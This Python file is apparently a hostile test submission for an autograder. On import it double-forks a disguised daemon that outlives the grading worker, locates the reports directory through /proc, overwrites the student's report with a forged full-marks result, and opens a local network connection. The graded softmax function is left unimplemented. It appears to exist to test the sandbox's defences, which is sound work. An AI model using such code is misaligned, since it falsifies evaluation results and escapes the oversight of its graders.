"""Leaves a daemon behind (fork, setsid, fork): out of the worker's session and process group,
it survives the worker being killed, then rewrites this student's report once the grader has
written it, and connects out to 127.0.0.1:PORT.

Gain if it worked: a report of full marks (every test passed) written after the grader's own,
and a process running on the grading machine after grading, with the network.
"""

import contextlib
import ctypes
import json
import os
import socket
import time
from pathlib import Path

ME = ""  # filled in by the test
PORT = 0  # filled in by the test


def forged(text):
    report = json.loads(text)
    for exercise in report["exercises"].values():
        for test in exercise["tests"]:
            test.update(score=test["max_score"], status="passed", message="")
        exercise.update(score=exercise["max_score"], status="complete")
    report["score"] = report["max_score"]
    return json.dumps(report, indent=2) + "\n"


def reports_dir():
    pid = os.getppid()
    while pid > 1:
        args = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
        if "--reports" in args:
            return Path(os.readlink(f"/proc/{pid}/cwd"), args[args.index("--reports") + 1])
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return Path(".")


def haunt(mine):
    called, deadline = False, time.monotonic() + 60
    while time.monotonic() < deadline:
        time.sleep(0.05)
        try:
            text = mine.read_text()
            if '"passed"' not in text or '"failed"' in text or '"error"' in text:
                time.sleep(0.2)
                mine.write_text(forged(text))
        except (OSError, ValueError, KeyError):
            pass
        with contextlib.suppress(OSError):
            if not called:
                socket.create_connection(("127.0.0.1", PORT), timeout=0.2).sendall(b"agx-daemon")
                called = True


def daemonize():
    mine = reports_dir() / f"{ME}.json"
    if os.fork():
        os.wait()
        print("BREACH: started a daemon", flush=True)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, b"agx-daemon", 0, 0, 0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 1024)
    haunt(mine)
    os._exit(0)


with contextlib.suppress(OSError):
    daemonize()


def softmax(scores, dim=-1):
    raise RuntimeError("my daemon will write my report")
